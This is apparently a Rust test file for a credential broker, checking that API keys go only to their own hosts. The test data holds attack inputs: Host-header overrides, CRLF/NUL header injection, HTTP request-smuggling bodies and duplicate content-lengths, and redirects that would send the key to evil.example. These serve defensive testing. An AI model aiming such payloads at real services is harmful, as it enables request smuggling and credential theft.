//! B1 to B4 and B9: where a request's credential goes, and whether it is one request. `places.rs` has B5 to B8.

use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http::HeaderMap;
use http_body::Frame;
use http_body_util::{BodyExt as _, StreamBody};
use keyhole_host_api::broker::{BodyError, Decision};
use keyhole_tests::host::scope;
use keyhole_tests::server::{Authority, Server, answer};
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::rig::*;

const URL: &str = "https://api.acme.example/v1/echo";

#[tokio::test(flavor = "multi_thread")]
async fn b1_a_placeholder_goes_to_its_own_accounts_hosts_alone() {
    let scene = Scene::new().await;
    let ledger = scene.host.connect("alice", "ledger", &[("token", "ledger-token-4Vb8Nq")]).await;
    let mut open = scope("alice", &[("acme", "acme", Some(&scene.account)), ("ledger", "ledger", Some(&ledger))]);
    open.allow_hosts.push(EVIL.parse().unwrap());
    let run = Run::of(scene.broker.session(open), "acme").await;
    run.session.account("ledger").await.unwrap_or_else(|error| panic!("{error}"));
    for (what, url) in [
        ("another app's host", "https://ledger.example/entries"),
        ("an allowed host without an account", "https://evil.example/"),
        ("a host that is not allowed", "https://other.example/"),
    ] {
        let reason = run.refused(what, run.get(url).await);
        assert!(reason.contains("they go to api.acme.example"), "{what}: {reason}");
    }
    let uses = scene.uses().await;
    Scene::all_refused(&uses, 3);
    assert!(uses.iter().all(|used| used.account.as_deref() == Some(scene.account.as_str())));
    scene.untouched();
}

#[tokio::test(flavor = "multi_thread")]
async fn b2_the_urls_host_is_sent_whatever_the_step_says() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    for hosts in [&[EVIL][..], &[EVIL, HOST], &[HOST, EVIL], &["evil.example:443"]] {
        let mut headers = vec![("authorization", run.bearer.as_str())];
        headers.extend(hosts.iter().map(|host| ("host", *host)));
        assert_eq!(run.send(request("GET", URL, &headers, "")).await.unwrap().status, 200);
    }
    for got in scene.service.received() {
        let hosts: Vec<_> = got.headers.iter().filter(|(name, _)| name == "host").map(|(_, host)| host).collect();
        assert_eq!(hosts, [HOST]);
        assert!(!got.target.contains("://"), "{}", got.target);
    }
    assert!(scene.uses().await.iter().all(|used| used.host == HOST && used.decision == Decision::Allowed));
    assert_eq!(scene.evil.accepted(), 0);
}

#[test]
fn b2_b3_a_component_can_write_no_second_host_and_no_line_break() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], echo);
    guest.keyhole.lead(HOST, &service);
    let url = format!("https://{HOST}/v1/echo");
    let headers = [
        ("host", EVIL),
        ("Host", EVIL),
        (":authority", EVIL),
        ("x-a\r\nx-smuggled", "1"),
        ("x-a: 1\nx-smuggled", "1"),
        ("x-a\0", "1"),
        ("", "1"),
        ("x-a", "1\r\nx-smuggled: 1"),
        ("x-a", "1\nx-smuggled: 1"),
        ("x-a", "1\rx-smuggled: 1"),
        ("x-a", "1\0x-smuggled"),
    ];
    let mut requests: Vec<_> =
        headers.iter().map(|header| json!({"url": url, "account": true, "headers": [header]})).collect();
    for path in ["/a\r\nx-smuggled: 1", "/a HTTP/1.1\r\nx-smuggled: 1\r\n\r\n", "/a\nb", "/a\0b", "/?q=\r\n\r\nGET / "]
    {
        requests.push(json!({"url": format!("https://{HOST}{path}"), "account": true}));
    }
    let count = requests.len();
    let run = guest.attack("sequence", json!({ "requests": requests }), &[]);
    let found = run["return_value"].as_array().unwrap();
    assert_eq!(found.len(), count);
    assert!(found.iter().all(|found| !found["error"].is_null()), "{run:#}");
    assert_eq!(service.accepted(), 0);
    assert!(guest.audit().as_array().unwrap().iter().all(|used| used["decision"] == "refused"));
}

#[tokio::test(flavor = "multi_thread")]
async fn b3_line_breaks_end_no_line_in_a_path_nor_in_a_credential() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    // Encoded, they stay so.
    let target = "/v1/a%0d%0ax-smuggled:%201%00?q=%0D%0A";
    run.get(&format!("https://{HOST}{target}")).await.unwrap();
    let got = &scene.service.received()[0];
    assert_eq!(got.target, target);
    assert!(got.header("x-smuggled").is_none());
    assert_eq!(scene.uses().await.len(), 1);

    for bad in ["acme_live_x\r\nx-smuggled: 1", "acme_live_xxxxx\n", "acme_live_xxxxx\rx", "acme_live_xxxxx\0x"] {
        let fields = [("api_key".to_owned(), keyhole_host_api::vault::Secret::new(bad.to_owned()))].into();
        let given =
            keyhole_host_api::accounts::Connect { app: "acme".to_owned(), nickname: None, fields, custom: None };
        let refused = scene.host.accounts.connect(&keyhole_tests::host::member("alice"), given).await;
        let reason = refused.err().unwrap_or_else(|| panic!("{bad:?} was stored")).to_string();
        assert!(reason.contains("line break") && !reason.contains("xxxxx"), "{reason}");
    }
}

/// A service that keeps every byte of each connection, answers after one request and reads on.
fn listening(authority: &Authority, heard: Arc<Mutex<Vec<u8>>>) -> Server {
    Server::raw(authority, &[HOST], move |mut stream| {
        let heard = heard.clone();
        async move {
            let (mut all, mut buffer, mut answered) = (Vec::new(), [0; 4096], false);
            while let Ok(count @ 1..) = stream.read(&mut buffer).await {
                all.extend_from_slice(&buffer[..count]);
                if !answered && complete(&all) {
                    answered = true;
                    let _ =
                        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok").await;
                    let _ = stream.flush().await;
                }
            }
            heard.lock().unwrap().extend(all);
        }
    })
}

/// Whether the first request in `bytes` is whole.
fn complete(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes).to_lowercase();
    let Some((head, body)) = text.split_once("\r\n\r\n") else { return false };
    if head.contains("transfer-encoding: chunked") {
        return body.ends_with("0\r\n\r\n");
    }
    let length = head.split("content-length: ").nth(1).and_then(|rest| rest.split("\r\n").next());
    length.is_none_or(|length| body.len() >= length.parse().expect("a length"))
}

#[tokio::test(flavor = "multi_thread")]
async fn b4_nothing_turns_one_request_into_two_or_takes_the_credential_off() {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let scene = Scene::at(|authority| listening(authority, heard.clone())).await;
    let run = scene.run().await;
    let auth = ("authorization", run.bearer.as_str());
    let refused = [
        ("GET", ("connection", "authorization")),
        ("GET", ("connection", "close, Authorization")),
        ("GET", ("upgrade", "websocket")),
        ("GET", ("upgrade", "h2c")),
        ("POST", ("expect", "100-continue")),
        ("GET", ("proxy-authorization", "Basic eDp5")),
        ("CONNECT", ("x-a", "1")),
        ("TRACE", ("x-a", "1")),
        ("POST", ("content-length", "2, 4")),
    ];
    for (method, header) in refused {
        let url = if method == "CONNECT" { "https://api.acme.example/" } else { URL };
        run.refused(&format!("{method} {header:?}"), run.send(request(method, url, &[auth, header], "hi")).await);
    }
    // Two lengths, of a body too long to be read whole: whoever believes the second sees another request.
    for lengths in [["70000", "5"], ["70000", "70000"], ["5", "70000"]] {
        let headers = [auth, ("content-length", lengths[0]), ("content-length", lengths[1])];
        let outcome = run.send(pieces("POST", URL, &headers, &"x".repeat(70_000), 7_000)).await;
        run.refused(&format!("{lengths:?}"), outcome);
    }
    for length in ["+70000", "+2", "", "2, 2", "0x2", "2.0", "-1"] {
        let outcome = run.send(pieces("POST", URL, &[auth, ("content-length", length)], "hi", 1)).await;
        run.refused(length, outcome);
    }
    let refusals = refused.len() + 3 + 7;
    Scene::all_refused(&scene.uses().await, refusals);
    scene.untouched();

    // What is a matter of the connection is the client's own.
    let smuggled = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: api.acme.example\r\n\r\n";
    let te = [auth, ("transfer-encoding", "chunked"), ("te", "trailers"), ("trailer", "x-last"), ("keep-alive", "x")];
    run.send(request("POST", URL, &te, smuggled)).await.unwrap();
    let odd_te = [auth, ("transfer-encoding", "xchunked"), ("transfer-encoding", "identity")];
    run.send(pieces("POST", URL, &odd_te, smuggled, 7)).await.unwrap();
    // Trailers are dropped.
    let mut trailers = HeaderMap::new();
    trailers.insert("x-last", run.bearer.parse().unwrap());
    let frames = [Ok::<_, BodyError>(Frame::data(Bytes::from_static(b"hi"))), Ok(Frame::trailers(trailers))];
    let body = StreamBody::new(futures_util::stream::iter(frames)).boxed_unsync();
    run.send(request("POST", URL, &[auth], "").map(|_| body)).await.unwrap();
    // An absolute form is a path as any other.
    run.get("https://api.acme.example/https://evil.example/").await.unwrap();
    run.get("https://api.acme.example//evil.example/").await.unwrap();
    drop(run);
    scene.service.wait_until_idle();
    // The broker may keep no connection: the service said close.
    let heard = String::from_utf8(heard.lock().unwrap().clone()).unwrap();
    assert_eq!(heard.matches(&format!("authorization: Bearer {KEY}\r\n")).count(), 5, "{heard}");
    assert_eq!(heard.matches(&format!("host: {HOST}\r\n")).count(), 6, "five requests, and one in a body: {heard}");
    for head in heard.split(" HTTP/1.1\r\n").skip(1).filter_map(|rest| rest.split("\r\n\r\n").next()) {
        let (length, chunked) = (head.contains("content-length:"), head.contains("transfer-encoding:"));
        assert!(!(length && chunked), "{head}");
        assert!(!head.contains("xchunked") && !head.contains("identity") && !head.contains("keep-alive: x"), "{head}");
    }
    assert!(!heard.contains("x-last") && !heard.contains(&scene.account.to_string()), "{heard}");
    assert!(heard.contains("GET /https://evil.example/ ") && heard.contains("GET //evil.example/ "), "{heard}");
    assert!(scene.uses().await[refusals..].iter().all(|used| used.status == Some(200)));
}

#[test]
fn b4_nor_can_a_component_state_two_lengths() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], echo);
    guest.keyhole.lead(HOST, &service);
    // Too long to be read whole, so that what the step states would reach the client. Each is beside the true one.
    let (url, body) = (format!("https://{HOST}/v1/echo"), "x".repeat(70_000));
    let requests: Vec<_> = ["5", "70000", "+70000", "0"]
        .iter()
        .map(|length| {
            let headers = [("content-length", length)];
            json!({"url": url, "account": true, "method": "POST", "headers": headers, "body": body})
        })
        .collect();
    let run = guest.attack("sequence", json!({ "requests": requests }), &[]);
    for found in run["return_value"].as_array().unwrap() {
        assert!(!found["error"].is_null(), "{found}");
    }
    assert_eq!(service.accepted(), 0);
    assert!(guest.audit().as_array().unwrap().iter().all(|used| used["decision"] == "refused"));
}

#[tokio::test(flavor = "multi_thread")]
async fn b9_each_hop_of_a_redirect_is_a_request_under_the_same_checks() {
    let scene = Scene::at(|authority| {
        Server::http(authority, &[HOST], |got| {
            let key = got.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
            let (status, to) = match got.target.as_str() {
                "/host" => (302, "https://evil.example/?from=acme".to_owned()),
                "/port" => (301, format!("https://{HOST}:8443/")),
                "/http" => (303, format!("http://{HOST}/")),
                "/body" => (307, "https://evil.example/".to_owned()),
                "/key" => (302, format!("https://evil.example/?k={key}")),
                "/30" => (200, String::new()),
                hop => (302, format!("/{}", hop[1..].parse::<u32>().expect("a hop") + 1)),
            };
            let mut answer = answer(status, "text/plain", "");
            answer.headers_mut().insert("location", to.parse().unwrap());
            answer
        })
    })
    .await;
    let run = scene.run().await;
    let auth = ("authorization", run.bearer.as_str());
    let at = |path: &str| format!("https://{HOST}{path}");

    for (number, path) in ["/host", "/port", "/http", "/body", "/key"].into_iter().enumerate() {
        let hop = run.send(request("POST", &at(path), &[auth], "a body")).await.unwrap();
        assert_eq!(hop.status / 100, 3, "the step sees the redirect itself");
        assert_eq!((scene.service.received().len(), scene.evil.accepted()), (number + 1, 0), "{path}");
        assert!(!seen(&hop).contains(KEY));
        let to = hop.headers["location"].to_str().unwrap().to_owned();
        assert_eq!(path == "/key", to.contains(&run.placeholder));
        run.refused(&to, run.send(request("POST", &to, &[auth], "a body")).await);
    }
    // Whoever follows on without the header carries what the query has.
    run.refused(
        "in the query",
        run.send(request("GET", &format!("https://{EVIL}/?k={}", run.placeholder), &[], "")).await,
    );

    let mut to = "/0".to_owned();
    let mut hops = 0;
    loop {
        let hop = run.get(&at(&to)).await.unwrap();
        if hop.status == 200 {
            break;
        }
        to = hop.headers["location"].to_str().unwrap().to_owned();
        hops += 1;
    }
    assert_eq!(hops, 30);
    let uses = scene.uses().await;
    assert_eq!(uses.iter().filter(|used| used.decision == Decision::Allowed).count(), 5 + 31, "one record a hop");
    assert_eq!(uses.iter().filter(|used| used.decision == Decision::Refused).count(), 6);
    assert_eq!(scene.evil.accepted(), 0);
}

#[test]
fn b9_a_component_is_led_nowhere_by_a_redirect() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], |got| {
        let mut answer = answer(307, "text/plain", "");
        let key = got.header("authorization").unwrap_or_default();
        answer.headers_mut().insert("location", format!("https://evil.example/?k={key}").parse().unwrap());
        answer
    });
    let evil = Server::http(&guest.keyhole.authority, &[EVIL], echo);
    guest.keyhole.lead(HOST, &service);
    guest.keyhole.lead(EVIL, &evil);
    let requests = json!([
        {"url": format!("https://{HOST}/"), "account": true, "method": "POST", "body": "a body"},
        {"url": "https://evil.example/?k={api_key}"},
    ]);
    let run = guest.attack("sequence", json!({ "requests": requests }), &["--allow-host", EVIL]);
    let found = &run["return_value"];
    assert_eq!(found[0]["status"], 307, "{run:#}");
    assert!(found[0]["headers"].to_string().contains("‹acme.api_key›"), "{run:#}");
    assert!(found[1]["error"].as_str().is_some_and(|error| error.contains("refused")), "{run:#}");
    assert_eq!((service.received().len(), evil.accepted()), (1, 0));
    assert_eq!(guest.audit().as_array().unwrap().len(), 2);
}
